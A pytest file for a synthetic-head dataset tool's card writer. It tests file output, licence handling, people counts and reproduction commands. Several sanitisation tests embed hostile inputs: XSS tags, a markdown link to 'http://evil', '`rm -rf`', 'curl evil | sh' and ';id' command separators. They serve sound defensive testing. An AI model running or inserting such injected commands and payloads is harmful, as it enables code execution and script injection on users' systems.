"""The card of a dataset: counted from the data, whole, safe to read, and never in place of somebody's own page."""

from __future__ import annotations

import hashlib
import json
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import cv2
import numpy as np
import pytest
import yaml
from stored import files_of

from synth.card.axes import axes_picture
from synth.card.card import write_card
from synth.card.faces import _most_frontal
from synth.card.origin import origin_of_dataset
from synth.card.readme import is_ours
from synth.convert.convert import convert
from synth.errors import DatasetError, ShardError, SynthError, UsageError
from synth.geometry.pose import rotation_from_euler
from synth.heads.build import BUILDER_VERSION
from synth.heads.pack import bundled_packs, load_pack
from synth.recipe.load import load_recipe
from synth.recipe.vary import variant_recipe
from synth.run.accounts import accounts_of
from synth.shard.accounts import AssetEntry, SubjectEntry
from synth.shard.columns import Column
from synth.shard.dataset import open_dataset
from synth.shard.header import recipe_sha256
from synth.shard.manifest import HeadPackEntry, write_manifest
from synth.shard.read_manifest import read_manifest
from synth.shard.verify import verify_dataset
from synth.share.derive import repack, split, subset
from synth.share.merge import merge
from synth.share.provenance import Step, origin_of, write_manifest_with_steps
from synth.share.source import open_source
from synth.view.contact_sheet import ContactSheet

ALWAYS = (
    "README.md",
    "LICENSE",
    "NOTICE.md",
    "croissant.json",
    "preview.png",
    "histograms.png",
    "axes.png",
    "people.png",
)


NO_LICENCES = (
    "Proprietary", "Unknown", "None", "TBD", "All rights reserved", "CC BY 4.0", "(MIT", "MIT)", "MIT AND (Apache-2.0",
    "MIT OR", "(" * 240 + "MIT" + ")" * 240, "LicenseRef-of-nobody", "MIT AND " * 90 + "MIT",
)  # fmt: skip


def readme(folder: Path) -> str:
    return (folder / "README.md").read_text(encoding="utf-8")


def front(folder: Path) -> dict[str, Any]:
    return dict(yaml.safe_load(readme(folder).split("---\n")[1]))


def row(text: str, *start: str) -> list[str]:
    """The cells of the table's row that begins with these cells."""
    beginning = f"| {' | '.join(start)} |"
    (line,) = [line for line in text.splitlines() if line.startswith(beginning)]
    return [cell.strip() for cell in line.strip("|").split("|")]


@pytest.fixture(autouse=True)
def quick(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> None:
    """Drawing takes seconds; only tests of the pictures do it."""
    if "drawn" not in request.fixturenames:
        blank = np.zeros((4, 4, 3), np.uint8)
        monkeypatch.setattr("synth.card.card.draw_contact_sheet", lambda *_: ContactSheet(blank, ()))
        monkeypatch.setattr("synth.card.card.histograms_png", lambda *_: b"PNG")
        monkeypatch.setattr("synth.card.card.axes_picture", lambda *_: blank)
        monkeypatch.setattr("synth.card.card.people_picture", lambda *_: blank)


@pytest.fixture
def drawn() -> None:
    """A test that has this has real pictures."""


@pytest.fixture
def carded(tiny: Path) -> Path:
    write_card(tiny, parquet=False)
    return tiny


# --- the files


def test_all_files_are_there_and_the_folder_still_verifies(carded: Path):
    assert not [name for name in ALWAYS if not (carded / name).is_file()]
    assert verify_dataset(carded, deep=True) == []
    assert len(open_dataset(carded)) == 24


def test_the_checksums_are_those_of_all_files_of_the_dataset_and_the_card(carded: Path):
    lines = (carded / "SHA256SUMS").read_text(encoding="ascii").splitlines()
    sums = {name: digest for digest, name in (line.split("  ") for line in lines)}
    assert sums == {name: digest for name, digest in files_of(carded).items() if name != "SHA256SUMS"}


@pytest.mark.usefixtures("drawn")
def test_written_again_it_is_the_same_byte_for_byte(carded: Path):
    before = files_of(carded)
    write_card(carded, parquet=False)
    assert files_of(carded) == before


@pytest.mark.usefixtures("drawn")
def test_the_pictures_are_pictures(carded: Path):
    for name in ("preview.png", "histograms.png", "axes.png", "people.png"):
        picture = cv2.imread(str(carded / name))
        assert picture is not None
        assert min(picture.shape[:2]) > 250


def test_a_readme_of_somebody_else_is_not_replaced_unless_forced(tiny: Path):
    (tiny / "README.md").write_text("mine", encoding="utf-8")
    before = files_of(tiny)
    with pytest.raises(UsageError, match="didn't write it"):
        write_card(tiny, parquet=False)
    assert files_of(tiny) == before
    write_card(tiny, parquet=False, force=True)
    assert is_ours(readme(tiny))


def test_a_card_that_someone_changed_is_not_replaced_unless_forced(carded: Path):
    path = carded / "README.md"
    path.write_text(readme(carded).replace("Known limits", "No limits"), encoding="utf-8")
    with pytest.raises(UsageError, match="was changed since"):
        write_card(carded, parquet=False)
    assert "No limits" in readme(carded)


def test_a_licence_of_somebody_else_is_not_replaced(tiny: Path):
    (tiny / "LICENSE").write_text("All rights reserved", encoding="utf-8")
    with pytest.raises(UsageError, match="LICENSE"):
        write_card(tiny, parquet=False)
    assert (tiny / "LICENSE").read_text(encoding="utf-8") == "All rights reserved"


@pytest.mark.parametrize("name", ["recipe.yaml", "croissant.json", "SHA256SUMS", "NOTICE.md", "axes.png"])
def test_a_file_of_somebody_else_is_not_replaced_unless_forced(tiny: Path, name: str):
    (tiny / name).write_text("mine", encoding="utf-8")
    (tiny / "preview.png").write_bytes(b"made by a render")
    before = files_of(tiny)
    with pytest.raises(UsageError, match=f"{name}: `synth card` didn't write it.*--force"):
        write_card(tiny, parquet=False)
    assert files_of(tiny) == before
    write_card(tiny, parquet=False, force=True)
    assert (tiny / name).read_bytes() != b"mine"


def test_a_card_that_was_stopped_half_way_can_be_written_again(carded: Path):
    (carded / "README.md").unlink()
    (carded / "SHA256SUMS").unlink()
    write_card(carded, parquet=False)
    assert is_ours(readme(carded))


def test_a_dataset_that_is_damaged_gets_no_card(tiny: Path):
    shard = tiny / "shard-00002.h5"
    data = bytearray(shard.read_bytes())
    data[len(data) // 2] ^= 1
    shard.write_bytes(data)
    with pytest.raises(DatasetError):
        write_card(tiny, parquet=False)
    assert not (tiny / "README.md").exists()


def test_labels_that_contradict_each_other_get_no_card(tmp_path: Path, make: Any):
    make(tmp_path / "in", R_camera_from_head=np.zeros((3, 3)))
    with pytest.raises(ShardError, match="sample 0: R_camera_from_head is not a rotation"):
        write_card(tmp_path / "in", parquet=False)
    assert not (tmp_path / "in/README.md").exists()


def test_if_something_cannot_be_made_nothing_is_written(tiny: Path, monkeypatch: pytest.MonkeyPatch):
    def fails(*_: Any) -> str:
        raise SynthError("No.")

    before = files_of(tiny)
    monkeypatch.setattr("synth.card.card.croissant_json", fails)
    with pytest.raises(SynthError):
        write_card(tiny, parquet=False)
    assert files_of(tiny) == before


def test_without_pyarrow_it_says_what_to_install_and_how_to_do_without(tiny: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(UsageError, match=r"pip install synth-heads\[export\].*--no-parquet"):
        write_card(tiny)
    assert not (tiny / "README.md").exists()


def test_a_folder_that_is_not_there_is_said_before_a_package_is_missed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.setitem(__import__("sys").modules, "pyarrow", None)
    with pytest.raises(DatasetError, match="There is no such folder"):
        write_card(tmp_path / "nope")
    with pytest.raises(DatasetError, match="There is no such folder"):
        convert(tmp_path / "nope", tmp_path / "out", "huggingface")


# --- what it states


def test_counts_and_spreads_are_those_of_the_labels(carded: Path):
    text, dataset = readme(carded), open_dataset(carded)
    assert row(text, "samples")[1] == "24"
    assert row(text, "people")[1] == "6, with 4 samples each"
    yaw = dataset.labels["euler_deg"][:, 1]
    cells = row(text, "`yaw_deg`", "degree", "24")
    want = [f"{q:.4g}".replace("-", "−") for q in np.quantile(yaw, [0, 0.05, 0.5, 0.95, 1])]
    assert cells[3:8] == want
    assert row(text, "sex", "female")[2] == "0"
    assert row(text, "", "male")[2:] == ["6", "100%", "24", "100%"]  # a person's first sample speaks for all


def test_people_are_counted_once_however_often_they_are_shown(tmp_path: Path, make: Any):
    make(tmp_path / "in", samples=12, sex="female", age_years=8.0, skin_tone=0.9)
    write_card(tmp_path / "in", parquet=False)
    text = readme(tmp_path / "in")
    assert row(text, "age", "0 to 12")[2:] == ["3", "100%", "12", "100%"]
    assert row(text, "", "20 to 39")[2:] == ["0", "0%", "0", "0%"]
    assert row(text, "sex", "female")[2:] == ["3", "100%", "12", "100%"]
    assert row(text, "", "dark")[2:] == ["3", "100%", "12", "100%"]
    assert "nobody is light or medium" in text
    assert "nobody is 13 to 19, 20 to 39, 40 to 59 or 60 and older" in text


def test_what_is_not_known_is_counted_as_unknown_and_said_among_the_limits(full: Path):
    write_card(full, parquet=False)
    text = readme(full)
    assert row(text, "", "unknown")[2] == "1"
    assert "The age isn't known of 1 of 3 people" in text
    assert "`sharpness`" in text  # a label that this version doesn't know is listed like all others
    assert "1 planned samples couldn't be made" in text


def test_variants_are_said_to_show_the_same_shot(tmp_path: Path, make: Any):
    make(tmp_path / "in", base_id=0, condition="blur=gaussian:2.1")
    write_card(tmp_path / "in", parquet=False)
    assert "keep them on one side of a split" in readme(tmp_path / "in")
    counts = readme(tmp_path / "in").split("## Distributions")[1]
    assert row(counts, "`condition`")[1] == "blur=gaussian 12"
    assert "Nothing covers or blurs" not in readme(tmp_path / "in")


def test_the_limits_name_the_poses_that_are_there(carded: Path):
    euler = open_dataset(carded).labels["euler_deg"]
    want = f"pitch {euler[:, 0].min():.0f}° to {euler[:, 0].max():.0f}°".replace("-", "−")
    assert want in readme(carded)


def test_every_label_is_listed_with_its_unit(full: Path):
    write_card(full, parquet=False)
    text = readme(full).split("## Distributions")[0]
    for column in open_source(full).columns:
        assert row(text, f"`{column.name}`", column.unit)


def test_the_front_matter_has_the_licence_and_the_size_for_the_hub(carded: Path, full: Path):
    assert front(carded)["license"] == "cc0-1.0"
    assert front(carded)["size_categories"] == ["n<1K"]
    assert "configs" not in front(carded)  # without a table there is nothing to load
    write_card(full, parquet=False)
    assert front(full)["task_categories"] == ["keypoint-detection", "depth-estimation"]


@pytest.mark.parametrize(
    ("licence", "tag", "said"),
    [
        ("", "other", "doesn't state a licence"),
        ("CC0-1.0 AND CC-BY-4.0", "other", "https://spdx.org/licenses/CC-BY-4.0.html"),
        ("CC0-1.0 AND NOASSERTION", "other", "doesn't state a licence"),
        ("LicenseRef-FaceGen", "other", "ask the one who made the heads"),
        ("unknown (user's own)", "other", "no licence that others know"),
        ("CC0-1.0 AND mine", "other", "no licence that others know"),
        *((words, "other", "no licence that others know") for words in NO_LICENCES),
        ("curl", "other", "https://spdx.org/licenses/curl.html"),
        ("MIT AND (CC0-1.0 OR Apache-2.0)", "other", "https://spdx.org/licenses/Apache-2.0.html"),
        ("CC0-1.0", "cc0-1.0", "Statement of Purpose"),
    ],
)
def test_the_licence_is_the_manifests_and_never_guessed(tiny: Path, licence: str, tag: str, said: str):
    write_manifest(tiny, replace(read_manifest(tiny), license=licence))
    write_card(tiny, parquet=False)
    assert front(tiny)["license"] == tag
    text = (tiny / "LICENSE").read_text(encoding="utf-8")
    assert said in text
    assert not [word for word in ("unknown.html", "own.html", "mine.html") if word in text]
    machine = json.loads((tiny / "croissant.json").read_text(encoding="utf-8"))["license"]
    assert ("NOASSERTION" in str(machine)) is ("no licence that others know" in text or "state a licence" in text)


def test_assets_and_people_of_the_manifest_are_listed(tiny: Path):
    assets = (AssetEntry("portland", "environment", "CC0-1.0", "https://example.org/portland", "ab" * 32),)
    subjects = (
        SubjectEntry("m0000", {"age_years": 31.5, "hair_colour": "black"}),
        SubjectEntry("m0001", {"age_years": 62.0, "hair_colour": "black"}),
        SubjectEntry("m9999", {"age_years": 5.0, "hair_colour": "red"}),  # of the pack, but on no picture
    )
    write_manifest(tiny, replace(read_manifest(tiny), assets=assets, subjects=subjects, schema_version="1.2"))
    write_card(tiny, parquet=False)
    notice = (tiny / "NOTICE.md").read_text(encoding="utf-8")
    assert row(notice, "portland") == ["portland", "CC0-1.0", "https://example.org/portland", "ab" * 32]
    assert row(notice, "test-pack")[1] == "CC0-1.0"
    assert row(readme(tiny), "`age_years`", "2")[2] == "31.5 to 62, mean 46.8"
    assert row(readme(tiny), "`hair_colour`", "2")[2] == "black ×2"


def test_only_of_built_heads_it_is_said_that_nobody_is_real(tiny: Path):
    """Somebody's own heads may be scans of people."""
    write_card(tiny, parquet=False)
    assert "none of whom exists" not in readme(tiny)
    assert "it shows real people" in readme(tiny)
    pack = load_pack(bundled_packs()["demo8"])
    known = accounts_of(pack, load_recipe("demo"))
    heads = (HeadPackEntry(pack.name, pack.pack_sha256, pack.license),)
    built = replace(read_manifest(tiny), heads=heads, assets=known.assets, schema_version="1.2")
    write_manifest(tiny, built)
    write_card(tiny, parquet=False)
    assert "none of whom exists" in readme(tiny)
    assert "Nobody in it exists" in readme(tiny)
    write_manifest(tiny, replace(built, heads=(*heads, HeadPackEntry("scans", "1" * 64, "CC0-1.0"))))
    write_card(tiny, parquet=False)
    assert "it shows real people" in readme(tiny)


def test_of_people_of_whom_nothing_is_known_no_group_is_said_to_be_missing(tmp_path: Path, make: Any):
    make(tmp_path / "in", age_years=None, sex=None, skin_tone=None)
    write_card(tmp_path / "in", parquet=False)
    limits = readme(tmp_path / "in").split("## Known limits")[1].split("\n## ")[0]
    assert "nobody is" not in limits
    for what in ("age", "sex", "skin tone"):
        assert f"The {what} isn't known of anyone." in limits


def test_texts_of_strangers_do_nothing_in_the_page(tmp_path: Path, make: Any):
    make(tmp_path / "in", samples=4, condition="<script>x|[a](b)`", sex="<b>")
    manifest = read_manifest(tmp_path / "in")
    evil = "](http://evil) <img src=x onerror=alert(1)> | `rm -rf` \\"
    write_manifest(tmp_path / "in", replace(manifest, versions={"synth": evil}, license=evil))
    write_card(tmp_path / "in", parquet=False)
    for name in ("README.md", "NOTICE.md"):
        body = re.sub(r"```.*?```", "", (tmp_path / "in" / name).read_text(encoding="utf-8"), flags=re.DOTALL)
        assert not [tag for tag in ("<script", "<img", "<b>") if tag in body]
        assert "](http://evil)" not in body.replace("\\](http", "")
    assert front(tmp_path / "in")["license"] == "other"


@pytest.mark.parametrize(
    "step",
    [
        {"operation": "subset", "options": {"where": "id < 3\n```\n<img src=x>"}},
        {"operation": "subset", "options": {"where": "`id`"}},
        {"operation": "subset;id", "options": {}},
        {"operation": "subset", "options": {"where x;id": "1"}},
    ],
)
def test_a_manifest_puts_no_commands_of_its_own_into_the_page(tiny: Path, step: dict[str, Any]):
    manifest = replace(read_manifest(tiny), versions={"synth-heads": "1; curl evil | sh\n```"})
    one = Step(**step, sources=(origin_of(manifest),), dataset_id="some-0123456789ab")
    write_manifest_with_steps(tiny, manifest, (one,))
    write_card(tiny, parquet=False)
    section = readme(tiny).split("## How it was made")[1].split("\n## ")[0]
    assert "no command of this program" in section
    assert not [text for text in ("```", "<img", "pip install", "synth render") if text in section]


def test_a_version_that_is_none_is_no_word_of_a_command(tiny: Path):
    write_manifest(tiny, replace(read_manifest(tiny), versions={"synth-heads": "1; curl evil"}))
    write_card(tiny, parquet=False)
    assert "\npip install synth-heads\n" in readme(tiny)


def test_units_and_orders_of_strangers_do_nothing_in_the_page(tmp_path: Path, make: Any):
    strange = Column("strange", "<f4", (2,), "<img src=x>", order="a | <b>")
    make(tmp_path / "in", samples=2, further_columns=[strange], strange=[1.0, 2.0])
    write_card(tmp_path / "in", parquet=False)
    assert row(readme(tmp_path / "in"), "`strange`", r"&lt;img src=x&gt;")
    assert not [tag for tag in ("<img", "<b>") if tag in readme(tmp_path / "in")]


# --- how it was made


def test_the_recipe_beside_the_card_is_the_one_in_the_manifest(tmp_path: Path, make: Any):
    recipe = load_recipe("demo").model_dump(mode="json")
    make(tmp_path / "in", recipe=recipe)
    write_card(tmp_path / "in", parquet=False)
    loaded = load_recipe(tmp_path / "in/recipe.yaml").model_dump(mode="json")
    assert recipe_sha256(loaded) == read_manifest(tmp_path / "in").recipe_sha256
    assert "its checksum is the manifest's" in readme(tmp_path / "in")
    assert "synth render --recipe recipe.yaml --out datasets/demo" in readme(tmp_path / "in")


def test_a_recipe_of_another_version_is_given_as_it_is_and_said_to_be_that(carded: Path):
    assert yaml.safe_load((carded / "recipe.yaml").read_text(encoding="utf-8"))["noise"] == {"sigma_levels": [2.0, 2.0]}
    assert "It is another version's" in readme(carded)


def test_every_step_is_the_command_that_repeats_it(tiny: Path, tmp_path: Path):
    subset(tiny, tmp_path / "some", 'sex == "male" and id < 20', name="men", shard_samples=9)
    split(tmp_path / "some", tmp_path / "parts", shares=(0.5, 0.5), names=("a", "b"), seed=3)
    commands = origin_of_dataset(open_source(tmp_path / "parts/a")).commands
    assert commands == (
        "synth render --recipe recipe.yaml --out datasets/tiny",
        """synth subset datasets/tiny --where 'sex == "male" and id < 20' --name men --shard-samples 9"""
        " --out datasets/men",
        "synth split datasets/men --by subject --shares 0.5,0.5 --names a,b --seed 3 --out datasets/men-parts",
    )


def test_a_merged_dataset_has_no_one_recipe_and_says_what_was_merged(tmp_path: Path, make: Any):
    make(tmp_path / "one", recipe={"name": "one", "seed": 1}, ids=range(4))
    make(tmp_path / "two", recipe={"name": "two", "seed": 2}, ids=range(4, 8))
    merge([tmp_path / "one", tmp_path / "two"], tmp_path / "both")
    write_card(tmp_path / "both", parquet=False)
    names = [yaml.safe_load((tmp_path / f"both/recipe-{n}.yaml").read_text(encoding="utf-8"))["name"] for n in (1, 2)]
    assert names == ["one", "two"]
    assert origin_of_dataset(open_source(tmp_path / "both")).commands == (
        "synth render --recipe recipe-1.yaml --out datasets/one",
        "synth render --recipe recipe-2.yaml --out datasets/two",
        "synth merge datasets/one datasets/two --out datasets/one-and-two",
    )


def test_datasets_of_one_name_get_folders_of_their_own(tiny: Path, tmp_path: Path):
    repack(tiny, tmp_path / "packed", shard_samples=24)
    subset(tmp_path / "packed", tmp_path / "some", "id < 7", shard_samples=3)
    assert origin_of_dataset(open_source(tmp_path / "some")).commands == (
        "synth render --recipe recipe.yaml --out datasets/tiny",
        "synth repack datasets/tiny --shard-samples 24 --out datasets/tiny-2",
        "synth subset datasets/tiny-2 --where 'id < 7' --shard-samples 3 --out datasets/tiny-subset",
    )


def test_both_parts_of_a_split_come_out_of_one_command(tiny: Path, tmp_path: Path):
    split(tiny, tmp_path / "parts", shares=(0.5, 0.5), names=("a", "b"))
    merge([tmp_path / "parts/b", tmp_path / "parts/a"], tmp_path / "whole", name="again")
    assert origin_of_dataset(open_source(tmp_path / "whole")).commands[1:] == (
        "synth split datasets/tiny --by subject --shares 0.5,0.5 --names a,b --seed 0 --out datasets/tiny-parts",
        "synth merge datasets/tiny-parts/b datasets/tiny-parts/a --name again --out datasets/again",
    )


def test_heads_and_pictures_that_do_not_come_with_the_program_are_asked_for(tmp_path: Path, make: Any):
    recipe = load_recipe("demo").model_dump(mode="json")
    recipe["heads"]["pack"] = "bought"
    recipe["scene"]["photos"] = {"folder": "streets", "share": 0.5, "sha256": "0" * 64, "license": "CC0-1.0"}
    make(tmp_path / "in", recipe=recipe)
    write_card(tmp_path / "in", parquet=False)
    section = readme(tmp_path / "in").split("## How it was made")[1]
    assert "--set heads.pack=FOLDER" in section
    assert "--set scene.photos.folder=FOLDER" in section


def how_made(folder: Path) -> str:
    write_card(folder, parquet=False)
    return readme(folder).split("## How it was made")[1].split("\n## ")[0]


def test_parts_of_varied_pictures_that_do_not_say_of_which_promise_nothing(tmp_path: Path, make: Any):
    """Variants of stored pictures had no step of their own before 2026-11; their recipe can't be rendered."""
    make(tmp_path / "in", recipe=variant_recipe(load_recipe("demo"), "blur", [], "a" * 64).model_dump(mode="json"))
    subset(tmp_path / "in", tmp_path / "some", "id < 8")
    section = how_made(tmp_path / "some")
    assert "doesn't say which one that was" in section
    assert "synth render" not in section
    assert "make it again" not in section
    assert not list((tmp_path / "some").glob("recipe*.yaml"))


@pytest.mark.parametrize(
    "heads",
    [{"pack": ["q"]}, {"pack": {"a": 1}, "build": 3}, {"pack": "demo8", "pack_sha256": ["q"]}, ["q"], "q", 3, None,
     {"pack": "built-v4", "build": ["x"], "pack_sha256": 3}],
)  # fmt: skip
@pytest.mark.parametrize("scene", [{"photos": ["q"], "hdris": 3}, {"photos": "q"}, ["photos"], "photos", 3])
def test_values_of_any_type_in_a_strangers_recipe_are_no_fault_of_the_card(
    tmp_path: Path, make: Any, heads: Any, scene: Any
):
    shards, variants = [{"samples": "q"}, ["q"]], [["q"], {"source_sha256": {}}]
    for number in range(2):
        recipe = {"name": "tiny", "seed": 7, "heads": heads, "scene": scene, "shards": shards[number]}
        make(tmp_path / f"{number}", samples=2, recipe=recipe | {"variants": variants[number]})
        subset(tmp_path / f"{number}", tmp_path / f"some{number}", "id < 1")
        assert how_made(tmp_path / f"{number}")
        assert how_made(tmp_path / f"some{number}")


@pytest.mark.parametrize("old", [True, False])
def test_of_a_bundled_pack_whose_heads_have_changed_since_it_is_said_which_heads_are_needed(
    tmp_path: Path, make: Any, old: bool
):
    recipe = load_recipe("demo").model_dump(mode="json")
    sha256 = "4" * 64 if old else load_pack(bundled_packs()["demo8"]).pack_sha256
    recipe["heads"] |= {"pack": "demo8", "count": 8, "pack_sha256": sha256}
    manifest = make(tmp_path / "in", recipe=recipe)
    asset = AssetEntry("demo8", "head pack", "CC0-1.0", "synth heads build, version 3", "4" * 64)
    write_manifest(tmp_path / "in", replace(manifest, assets=(asset,), schema_version="1.2"))
    section = how_made(tmp_path / "in")
    assert ("made by version 3 of the head builder" in section) is old
    assert ("its checksum is the manifest's" in section) is not old
    assert ("with what is said below at hand, make it again" in section) is old


@pytest.mark.parametrize("version", [BUILDER_VERSION - 1, BUILDER_VERSION])
def test_heads_that_another_builder_built_are_not_promised(tmp_path: Path, make: Any, version: int):
    recipe = load_recipe("rgb_310k").model_dump(mode="json")
    recipe["heads"] |= {"pack": f"built-m8-f8-s0-t1024-v{version}", "pack_sha256": "4" * 64}
    make(tmp_path / "in", recipe=recipe)
    section = how_made(tmp_path / "in")
    old = version != BUILDER_VERSION
    assert (f"made by version {version} of the head builder" in section) is old
    assert ("its checksum is the manifest's" in section) is not old


def test_a_name_and_a_size_of_shards_that_an_older_step_does_not_note_are_said(
    tmp_path: Path, make: Any, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setattr("synth.share.derive.asked_for", lambda **_: {})
    recipe = load_recipe("demo").model_dump(mode="json") | {"samples": 12}
    recipe["shards"]["samples"] = 4
    make(tmp_path / "in", recipe=recipe, shard_samples=4)
    subset(tmp_path / "in", tmp_path / "named", "id < 8", name="faces", shard_samples=2)
    (_, command) = origin_of_dataset(open_source(tmp_path / "named")).commands
    assert command == "synth subset datasets/demo --where 'id < 8' --name faces --shard-samples 2 --out datasets/faces"
    subset(tmp_path / "in", tmp_path / "plain", "id < 3")
    (_, command) = origin_of_dataset(open_source(tmp_path / "plain")).commands
    assert command == "synth subset datasets/demo --where 'id < 3' --out datasets/demo-subset"


def test_the_citation_names_no_one_unless_told(carded: Path):
    assert "author" not in readme(carded).split("```bibtex")[1].split("```")[0]
    write_card(carded, parquet=False, author="A. Person", url="https://example.org/d")
    entry = readme(carded).split("```bibtex")[1].split("```")[0]
    for field in ("author = {A. Person}", "url = {https://example.org/d}", "year = {2026}"):
        assert field in entry


# --- the picture of the axes


def test_the_axes_picture_leaves_out_a_sign_that_no_sample_has(tmp_path: Path, make: Any):
    euler = np.array([20.0, 15.0, 5.0])
    make(tmp_path / "up", samples=4, euler_deg=euler, R_camera_from_head=rotation_from_euler(euler))
    picture = axes_picture(open_dataset(tmp_path / "up"))
    bottom = picture[picture.shape[0] // 2 + 20 :, picture.shape[1] // 4 + 20 : -30]
    assert np.ptp(bottom.reshape(-1, 3), axis=0).max() == 0  # where pitch, yaw and roll < 0 would be


def test_the_picture_of_people_shows_each_once_where_they_look_most_into_the_camera(tiny: Path):
    dataset = open_dataset(tiny)
    rows = _most_frontal(dataset)
    assert sorted(dataset[int(row)].subject for row in rows) == sorted(set(dataset.labels["subject"].tolist()))
    for row in rows.tolist():
        turned = [np.abs(item.euler_deg).sum() for item in dataset if item.subject == dataset[row].subject]
        assert np.abs(dataset[row].euler_deg).sum() == min(turned)
    ages = [dataset[int(row)].labels["age_years"] for row in rows]
    assert ages == sorted(ages)


@pytest.mark.usefixtures("drawn")
def test_a_dataset_of_range_maps_alone_has_a_card(tmp_path: Path, make: Any):
    make(tmp_path / "in", rgb=False)
    write_card(tmp_path / "in", parquet=False)
    assert "There are no colour pictures" in readme(tmp_path / "in")
    assert front(tmp_path / "in")["task_categories"] == ["depth-estimation"]


# --- for machines


def test_croissant_lists_the_files_with_their_checksums(carded: Path):
    content = json.loads((carded / "croissant.json").read_bytes())
    for entry in content["distribution"]:
        assert entry["sha256"] == hashlib.sha256((carded / entry["contentUrl"]).read_bytes()).hexdigest()
    assert {entry["name"] for entry in content["distribution"]} == {
        "manifest.json", *(f"shard-{n:05d}.h5" for n in range(5))
    }  # fmt: skip
    assert "recordSet" not in content
    assert content["license"] == "https://spdx.org/licenses/CC0-1.0.html"
